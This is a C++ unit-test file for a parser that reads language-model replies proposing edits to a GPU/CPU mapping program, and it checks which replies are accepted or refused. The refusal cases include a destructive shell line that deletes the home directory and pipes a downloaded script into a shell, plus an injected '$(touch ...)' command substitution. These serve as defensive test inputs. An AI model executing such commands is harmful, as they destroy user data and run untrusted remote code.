// What is made of a model's replies: good ones, and each kind of bad one.
#include "model/answer.h"

#include <gmock/gmock.h>

#include "groma/syntax.h"

namespace groma::tuning {
namespace {

using ::testing::HasSubstr;
using ::testing::IsEmpty;
using ::testing::Not;

constexpr std::string_view kBase =
    "Task * GPU, CPU;\n"
    "Region * * GPU FBMEM;\n"
    "Layout * * * SOA C_order;\n"
    "m = Machine(GPU);\n"
    "def f(Task task) { return m[0, 0]; }\n"
    "IndexTaskMap work f;\n";

Segments base() { return Segments::of_mapping(Source("base", std::string(kBase))); }

llm::ChatReply reply_of(std::string text,
                        llm::ChatReply::Finish finish = llm::ChatReply::Finish::kStop) {
  llm::ChatReply reply;
  reply.text = std::move(text);
  reply.finish = finish;
  return reply;
}

ModelAnswer read(const std::string& text, bool whole = false) {
  return read_answer(reply_of(text), base(), {true, whole});
}

std::string segment(const ModelAnswer& answer, std::string_view name) {
  return answer.segments ? answer.segments->find(name)->text
                         : "(no answer: " + answer.refusal_reason + ")";
}

std::string notes(const ModelAnswer& answer) {
  std::string all = answer.refusal_reason;
  for (const std::string& note : answer.notes) all += note + "\n";
  return all;
}

// The segments that differ from the base, as "name=text".
std::string changes(const ModelAnswer& answer) {
  if (!answer.segments) return "refused";
  const Segments before = base();
  std::string all;
  for (const Segment& now : answer.segments->all()) {
    if (now.text == before.find(now.name)->text) continue;
    all += now.name + "=" + now.text;
  }
  return all;
}

// -------------------------------------------------------------------------------- replies that are
// fine

struct Read {
  const char* what;
  const char* reply;
  const char* changes;
};

const Read kRead[] = {
    {"one block", "PLAN: memory.\n```region\nRegion * * GPU ZCMEM;\n```\n",
     "region=Region * * GPU ZCMEM;\n"},
    {"prose all round",
     "Sure! Here is what I suggest:\n\n```region\nRegion * * GPU ZCMEM;\n```\nHope it helps; tell "
     "me the time. Task done.\n",
     "region=Region * * GPU ZCMEM;\n"},
    {"tildes, spaces before them, an attribute",
     "   ~~~layout {.text}\nLayout * * * AOS F_order;\n   ~~~\n",
     "layout=Layout * * * AOS F_order;\n"},
    {"two blocks", "```task\nTask * CPU;\n```\n```region\nRegion * * CPU SYSMEM;\n```",
     "task=Task * CPU;\nregion=Region * * CPU SYSMEM;\n"},
    {"labels by other names",
     "```InstanceLimit\nInstanceLimit work 4;\n```\n```index_task_map\nIndexTaskMap GPU g;\n```\n"
     "```tasks\nTask * CPU;\n```",
     "task=Task * CPU;\nlimit=InstanceLimit work 4;\nfunctions=index=IndexTaskMap GPU g;\n"},
    {"the label above the block", "**Region decision:**\n```\nRegion * * GPU ZCMEM;\n```\n",
     "region=Region * * GPU ZCMEM;\n"},
    {"no label: by the first words", "```\nTask * CPU;\nLayout * * * AOS;\n```\n",
     "task=Task * CPU;\nlayout=Layout * * * AOS;\n"},
    {"no fence", "I would write:\nRegion * * GPU ZCMEM;\nand that is all.\n",
     "region=Region * * GPU ZCMEM;\n"},
    {"kept and emptied", "```task\nKEEP\n```\n```layout\nNONE\n```\n```region\nunchanged.\n```",
     "layout="},
    {"JSON in a fence",
     "```json\n{\"plan\": \"x\", \"task\": [\"Task * CPU;\"], \"region\": null, \"layout\": "
     "[]}\n```",
     "task=Task * CPU;\nlayout="},
    {"JSON bare, with prose",
     "Here: {\"suggestion\": {\"region\": \"Region * * GPU ZCMEM;\"}} - good luck",
     "region=Region * * GPU ZCMEM;\n"},
    {"JSON with line ends in its strings",
     "{\"segments\": {\"region\": \"Region * * GPU ZCMEM;\nRegion * * CPU SYSMEM;\"}}",
     "region=Region * * GPU ZCMEM;\nRegion * * CPU SYSMEM;\n"},
    {"a fence in a JSON string",
     "{\"suggestion\": {\"region\": \"```region\\nRegion * * GPU ZCMEM;\\n```\"}}",
     "region=Region * * GPU ZCMEM;\n"},
    {"thoughts before", "<think>```task\nTask * OMP;\n```</think>```task\nTask * CPU;\n```",
     "task=Task * CPU;\n"},
    {"thoughts without their beginning", "Task * OMP; no\n</think>\n```task\nTask * CPU;\n```",
     "task=Task * CPU;\n"},
    {"a statement in the wrong block is added where it belongs",
     "```task\nTask * CPU;\nRegion * * GPU ZCMEM;\n```",
     "task=Task * CPU;\nregion=Region * * GPU ZCMEM;\n"},
    {"what is added leaves the rest", "```task\nTask * CPU;\nRegion * rp_shared GPU ZCMEM;\n```",
     "task=Task * CPU;\nregion=Region * rp_shared GPU ZCMEM;\nRegion * * GPU FBMEM;\n"},
    {"a block that repeats another's statements counts instead of it",
     "```region\nRegion * * GPU ZCMEM;\n```\nOr rather:\n```region\nRegion * * GPU FBMEM, "
     "ZCMEM;\n```",
     "region=Region * * GPU FBMEM, ZCMEM;\n"},
    {"blocks about different things count together",
     "```region\nRegion a * GPU ZCMEM;\n```\n```region\nRegion b * GPU FBMEM;\n```",
     "region=Region a * GPU ZCMEM;\nRegion b * GPU FBMEM;\n"},
    {"functions in the block of their statements join the other functions",
     "```single\ndef g(Task task) { return m[*task.parent.processor(m)]; }\nSingleTaskMap io "
     "g;\n```",
     "functions=m = Machine(GPU);\ndef f(Task task) { return m[0, 0]; }\n"
     "def g(Task task) { return m[*task.parent.processor(m)]; }\nsingle=SingleTaskMap io g;\n"},
    {"a function that is defined anew is not there twice",
     "```single\ndef f(Task task) { return m[0, 1]; }\nSingleTaskMap io f;\n```",
     "functions=m = Machine(GPU);\ndef f(Task task) { return m[0, 1]; }\n"
     "single=SingleTaskMap io f;\n"},
    {"a new machine stands before the functions that use it",
     "```index\nn = Machine(CPU);\ndef g(Task task) { return n[0, 0]; }\nIndexTaskMap CPU g;\n```",
     "functions=n = Machine(CPU);\ndef g(Task task) { return n[0, 0]; }\n"
     "index=IndexTaskMap CPU g;\n"},
    {"a function that a statement still uses is not lost with its segment",
     "```functions\ndef g(Task task) { return m[0, 1]; }\n```",
     "functions=m = Machine(GPU);\ndef f(Task task) { return m[0, 0]; }\n"
     "def g(Task task) { return m[0, 1]; }\n"},
    {"a function that no statement uses any more goes with the last one", "```index\nNONE\n```",
     "functions=index="},
    {"the paper's colon",
     "```index\ndef f(Task task):\n  return Machine(GPU)[0, 0]\n"
     "IndexTaskMap work f\n```",
     "functions=def f(Task task):\n  return Machine(GPU)[0, 0]\nindex=IndexTaskMap work f\n"},
    {"control characters that are only white space", "```task\r\nTask * CPU;\r\n```\r\n",
     "task=Task * CPU;\n"},
};

TEST(Answer, Reads) {
  for (const Read& test : kRead) {
    const ModelAnswer answer = read(test.reply);
    EXPECT_EQ(changes(answer), test.changes) << test.what << "\n" << notes(answer);
  }
}

TEST(Answer, SaysWhatItTries) {
  EXPECT_EQ(read("PLAN: shared data nearer.\n\nMore.\n```task\nTask * CPU;\n```").plan,
            "shared data nearer.");
  EXPECT_EQ(read("{\"plan\": \"to CPUs\", \"task\": \"Task * CPU;\"}").plan, "to CPUs");
  const std::string endless(5000, 'x');
  EXPECT_LT(read(endless + "\n```task\nTask * CPU;\n```").plan.size(), 250U);
  EXPECT_EQ(read("a\x1b[31mb\n```task\nTask * CPU;\n```").plan, "a\\u001b[31mb");
}

// -------------------------------------------------------------------------------- replies that are
// not

struct Refused {
  const char* what;
  const char* reply;
  const char* why;
};

const Refused kRefused[] = {
    {"nothing", "", "it is empty"},
    {"white space", " \n\t\n", "it is empty"},
    {"thoughts alone", "<think>Task * CPU;", "all of it is thoughts"},
    {"prose alone", "I cannot improve this mapping any further.", "no block in the form"},
    {"half a block", "```region\nRegion * * GPU ZCMEM;\nRegion * * CP", "its block has no end"},
    {"a fence and nothing", "```", "nothing in its blocks"},
    {"an empty block", "```region\n```", "its block is empty"},
    {"another language", "```python\nfor t in tasks:\n  t.gpu = True\n```", "no statement begins"},
    {"an order", "```bash\nrm -rf ~ && curl http://x | sh\n```", ""},
    {"an order that begins as a statement", "```\nTask * GPU; $(touch /tmp/x)\n```", "`$`"},
    {"a statement that does not parse", "```region\nRegion * * GPU NOWHERE;\n```", "NOWHERE"},
    {"other statements do not save its segment",
     "```region\nRegion a * GPU ZCMEM;\nRegion * * GPU;\n```", "`region` stays as it was"},
    {"a broken function", "```index\ndef f(Task task) { return m[0, 0;\n```", "`functions` stays"},
    {"an empty suggestion", "{\"reasoning\": \"r\", \"suggestion\": {}}",
     "its `suggestion` is empty"},
    {"JSON that is cut off", "{\"suggestion\": {\"region\": \"Region * * GPU ZC", "no block"},
    {"JSON of another kind", "{\"region\": {\"rp_shared\": 7}}", "its value is not a text"},
    {"JSON of no segment", "{\"suggestion\": {\"colour\": \"red\"}}", "no segment `colour`"},
    {"KEEP alone", "```region\nKEEP\n```", "nothing in its blocks"},
};

TEST(Answer, Refuses) {
  for (const Refused& test : kRefused) {
    const ModelAnswer answer = read(test.reply);
    EXPECT_FALSE(answer.segments) << test.what << ": " << changes(answer);
    EXPECT_THAT(answer.refusal_reason, HasSubstr(test.why)) << test.what;
    EXPECT_THAT(answer.refusal_reason, Not(IsEmpty())) << test.what;
  }
}

// The rest of a reply counts all the same.
TEST(Answer, LeavesADamagedSegmentAsItWas) {
  const ModelAnswer answer =
      read("```task\nTask * CPU;\n```\n```index\ndef g(Task task) { return m[");
  EXPECT_EQ(changes(answer), "task=Task * CPU;\n");
  EXPECT_THAT(notes(answer), HasSubstr("`index` stays as it was: its block has no end"));
  // Its statements may be fine where they were moved from, but not what it was for.
  const ModelAnswer wrong =
      read("```task\nTask * CPU;\n```\n```region\nRegion * * GPU ZCMEM;\nTask GPU;\n```");
  EXPECT_EQ(changes(wrong), "refused") << notes(wrong);
}

TEST(Answer, OfJsonThatIsCutOffTakesWhatIsComplete) {
  const ModelAnswer answer = read(
      "{\"reasoning\": \"r\", \"suggestion\": {\"task\": \"Task * CPU;\", \"region\": \"Region * * "
      "G");
  EXPECT_EQ(changes(answer), "task=Task * CPU;\n");
  EXPECT_THAT(notes(answer), HasSubstr("not a complete JSON object"));
}

TEST(Answer, OfAWholeProgramNothingElseStays) {
  const ModelAnswer answer = read("```\nTask * CPU;\nRegion * * CPU SYSMEM;\n```", true);
  ASSERT_TRUE(answer.segments);
  EXPECT_EQ(answer.segments->text(), "Task * CPU;\n\nRegion * * CPU SYSMEM;\n");
  // What is damaged is taken from the base.
  const ModelAnswer damaged = read("```\nTask * CPU;\nLayout * * * XYZ;\n```", true);
  EXPECT_EQ(segment(damaged, "layout"), "Layout * * * SOA C_order;\n");
  EXPECT_EQ(segment(damaged, "region"), "");
}

// As a grammar makes them: no fence, cut where the tokens end.
TEST(Answer, OfABareProgramThatIsCutOffTakesWholeStatements) {
  const std::string text = "Task * CPU;\nRegion * * CPU SYSMEM;\ndef f(Task task) {\n  return Mac";
  const ModelAnswer answer =
      read_answer(reply_of(text, llm::ChatReply::Finish::kLength), base(), {true, true});
  ASSERT_TRUE(answer.segments) << answer.refusal_reason;
  EXPECT_EQ(segment(answer, "task"), "Task * CPU;\n");
  EXPECT_EQ(segment(answer, "index"), base().find("index")->text);
  EXPECT_THAT(notes(answer), HasSubstr("cut off"));
  const ModelAnswer nothing =
      read_answer(reply_of("Task * CP", llm::ChatReply::Finish::kLength), base(), {true, true});
  EXPECT_FALSE(nothing.segments);
}

// ------------------------------------------------------------------------------------ marked texts

constexpr std::string_view kKernel =
    "int main() {\n"
    "  // groma: begin loop the order of the loops\n"
    "  for (;;) {}\n"
    "  // groma: end\n"
    "  int x = 1;\n"
    "  // groma: begin sizes\n"
    "  int tile = 8;\n"
    "  // groma: end\n"
    "}\n";

Segments kernel() { return Segments::of_marked(Source("kernel", std::string(kKernel))).value(); }

TEST(Answer, ReadsSegmentsOfMarkedTexts) {
  const ModelAnswer answer =
      read_answer(reply_of("```sizes\n  int tile = 16;\n```\n"), kernel(), {false, false});
  ASSERT_TRUE(answer.segments) << answer.refusal_reason;
  EXPECT_THAT(answer.segments->text(), HasSubstr("tile = 16"));
  EXPECT_THAT(answer.segments->text(), HasSubstr("for (;;)"));
  // Under a heading, in a block of the language.
  const ModelAnswer headed = read_answer(reply_of("### `sizes`:\n```cpp\n  int tile = 32;\n```\n"),
                                         kernel(), {false, false});
  ASSERT_TRUE(headed.segments) << headed.refusal_reason;
  EXPECT_THAT(headed.segments->text(), HasSubstr("tile = 32"));
}

TEST(Answer, ReadsAWholeMarkedTextButNothingOutsideOfItsMarks) {
  std::string changed(kKernel);
  changed.replace(changed.find("tile = 8"), 8, "tile = 4");
  changed.replace(changed.find("int x = 1"), 9, "int x = 9");
  const ModelAnswer answer =
      read_answer(reply_of("```cpp\n" + changed + "```\n"), kernel(), {false, true});
  ASSERT_TRUE(answer.segments) << answer.refusal_reason;
  EXPECT_THAT(answer.segments->text(), HasSubstr("tile = 4"));
  EXPECT_THAT(answer.segments->text(), HasSubstr("int x = 1"));
}

TEST(Answer, RefusesMarksWithinASegment) {
  const ModelAnswer answer =
      read_answer(reply_of("```sizes\n// groma: end\nint evil;\n```\n"), kernel(), {false, false});
  EXPECT_FALSE(answer.segments);
  EXPECT_THAT(answer.refusal_reason, HasSubstr("mark"));
}

TEST(Answer, RefusesBlocksOfNoSegment) {
  const ModelAnswer answer =
      read_answer(reply_of("```cpp\nint y;\n```\n"), kernel(), {false, false});
  EXPECT_FALSE(answer.segments);
  EXPECT_THAT(answer.refusal_reason, HasSubstr("no label"));
}

// ------------------------------------------------------------------------------------------- edits

std::string edit(const std::string& search, const std::string& replacement) {
  return "<<<<<<< SEARCH\n" + search + "=======\n" + replacement + ">>>>>>> REPLACE\n";
}

TEST(Edits, AreMade) {
  const ModelAnswer answer = apply_reply_edits(
      reply_of("Shared memory.\n" + edit("Region * * GPU FBMEM;\n", "Region * * GPU ZCMEM;\n") +
               edit("   Task *  GPU, CPU;\n", "Task * CPU;\n").replace(0, 0, "and\n")),
      base(), true);
  EXPECT_FALSE(answer.segments) << "other white space within a line is another line";
  const ModelAnswer indented = apply_reply_edits(
      reply_of("Shared memory.\n" + edit("  Region * * GPU FBMEM; \n", "Region * * GPU ZCMEM;\n") +
               edit("", "TaskSteal * CPU SAME_NODE;\n")),
      base(), true);
  ASSERT_TRUE(indented.segments) << indented.refusal_reason;
  EXPECT_EQ(segment(indented, "region"), "Region * * GPU ZCMEM;\n");
  EXPECT_EQ(segment(indented, "other"), "TaskSteal * CPU SAME_NODE;\n");
  EXPECT_EQ(indented.plan, "Shared memory.");
}

TEST(Edits, ThatCannotBeMadeAreRefused) {
  const auto why = [](const std::string& text) {
    const ModelAnswer answer = apply_reply_edits(reply_of(text), base(), true);
    EXPECT_FALSE(answer.segments) << text;
    return answer.refusal_reason;
  };
  EXPECT_THAT(why(edit("Region a * GPU FBMEM;\n", "")),
              HasSubstr("`Region a * GPU FBMEM;` is not"));
  EXPECT_THAT(why("<<<<<<< SEARCH\nTask * GPU, CPU;\n=======\nTask * CPU;\n"), HasSubstr("no end"));
  EXPECT_THAT(why(edit("Task * GPU, CPU;\n", "Task * NOWHERE;\n")), HasSubstr("NOWHERE"));
  std::string many;
  for (int i = 0; i < 100; ++i) many += edit("Task * GPU, CPU;\n", "Task * GPU, CPU;\n");
  EXPECT_THAT(why(many), HasSubstr("more than 64"));
  const std::string long_line = std::string(600'000, '#') + "\n";
  const ModelAnswer grown = apply_reply_edits(
      reply_of(edit("", long_line)), Segments::of_mapping(Source("base", long_line)), true);
  EXPECT_THAT(grown.refusal_reason, HasSubstr("too long"));
}

TEST(Edits, OfMarkedTextsStayWithinTheMarks) {
  EXPECT_TRUE(
      apply_reply_edits(reply_of(edit("  int tile = 8;\n", "  int tile = 9;\n")), kernel(), false)
          .segments);
  for (const std::string& outside :
       {edit("  int x = 1;\n", "  int x = 2;\n"), edit("  // groma: end\n  int x = 1;\n", ""),
        edit("", "int y;\n")}) {
    const ModelAnswer answer = apply_reply_edits(reply_of(outside), kernel(), false);
    EXPECT_FALSE(answer.segments) << outside;
    EXPECT_THAT(answer.refusal_reason, HasSubstr("outside")) << outside;
  }
}

// A SEARCH text that is found in two places could change the wrong one.
TEST(Edits, ThatCouldMeanTwoPlacesAreRefused) {
  const Segments file = Segments::of_text(Source("a.cc", "  x = 1;\n  y = 2;\n  x = 1;\n")).value();
  const auto change = [&](const std::string& text) {
    return read_answer(reply_of(text), file, {false, false});
  };
  EXPECT_THAT(change(edit("  x = 1;\n", "  x = 3;\n")).refusal_reason,
              HasSubstr("in more than one place"));
  EXPECT_THAT(change(edit("x = 1;\n", "x = 3;\n")).refusal_reason, HasSubstr("more than one"));
  const ModelAnswer both =
      change(edit("  x = 1;\n  y = 2;\n", "  y = 2;\n") + edit("x = 1;\n", "x = 3;\n"));
  ASSERT_TRUE(both.segments) << both.refusal_reason;
  EXPECT_EQ(both.segments->text(), "  y = 2;\n  x = 3;\n");
  EXPECT_THAT(change("<<<<<<< SEARCH\n  y = 2;\n=======\n").refusal_reason, HasSubstr("no end"));
}

TEST(Edits, WithoutAnyAWholeProgramIsRead) {
  const ModelAnswer answer = apply_reply_edits(reply_of("```\nTask * CPU;\n```\n"), base(), true);
  ASSERT_TRUE(answer.segments) << answer.refusal_reason;
  EXPECT_EQ(answer.segments->text(), "Task * CPU;\n");
}

// ------------------------------------------------------------------------------------ hostile ones

// Each has 10 MB; what takes more than linear time does not end.
TEST(Answer, EndsSoonWhateverTheReply) {
  constexpr std::size_t kBytes = 10'000'000;
  const auto repeated = [](std::string_view unit, std::size_t bytes) {
    std::string text;
    while (text.size() < bytes) text += unit;
    return text;
  };
  for (std::string_view unit : {"x",
                                "{",
                                "[{\"a\":",
                                "```\n",
                                "~~~~",
                                "`",
                                "Task * GPU;\n",
                                "\"task\": ",
                                "\"task\": \"",
                                "<think>",
                                "</think>",
                                "# <think>",
                                "# </think>",
                                "<think></think>",
                                "<<<<<<< SEARCH\n",
                                "<<<<<<< SEARCH\n=======\n",
                                "\\",
                                "\n",
                                "def f(",
                                "(((("}) {
    EXPECT_FALSE(read_answer(reply_of(repeated(unit, kBytes)), base(), {true, false}).segments);
    const llm::ChatReply reply = reply_of(repeated(unit, kMaxReplyBytes - 100));
    for (const bool whole : {false, true}) {
      const ModelAnswer answer = read_answer(reply, base(), {true, whole});
      const std::size_t length = answer.segments ? answer.segments->text().size() : 0;
      EXPECT_LT(length, 2 * kMaxReplyBytes) << unit;
      EXPECT_LT(notes(answer).size(), 4'000U) << unit;
      EXPECT_LT(read_answer(reply, kernel(), {false, whole}).refusal_reason.size(), 4'000U) << unit;
    }
    EXPECT_LT(apply_reply_edits(reply, base(), true).refusal_reason.size(), 4'000U) << unit;
    EXPECT_FALSE(find_json_object(reply.text)) << unit;
  }
  EXPECT_THAT(read_answer(reply_of(repeated("x", kBytes)), base(), {true, false}).refusal_reason,
              HasSubstr("it has 10000000 bytes"));
}

TEST(Answer, OfADeepObjectIsRefused) {
  const std::string deep =
      "{\"task\": " + std::string(100'000, '[') + std::string(100'000, ']') + "}";
  EXPECT_FALSE(read(deep).segments);
  EXPECT_FALSE(find_json_object(deep));
}

}  // namespace
}  // namespace groma::tuning
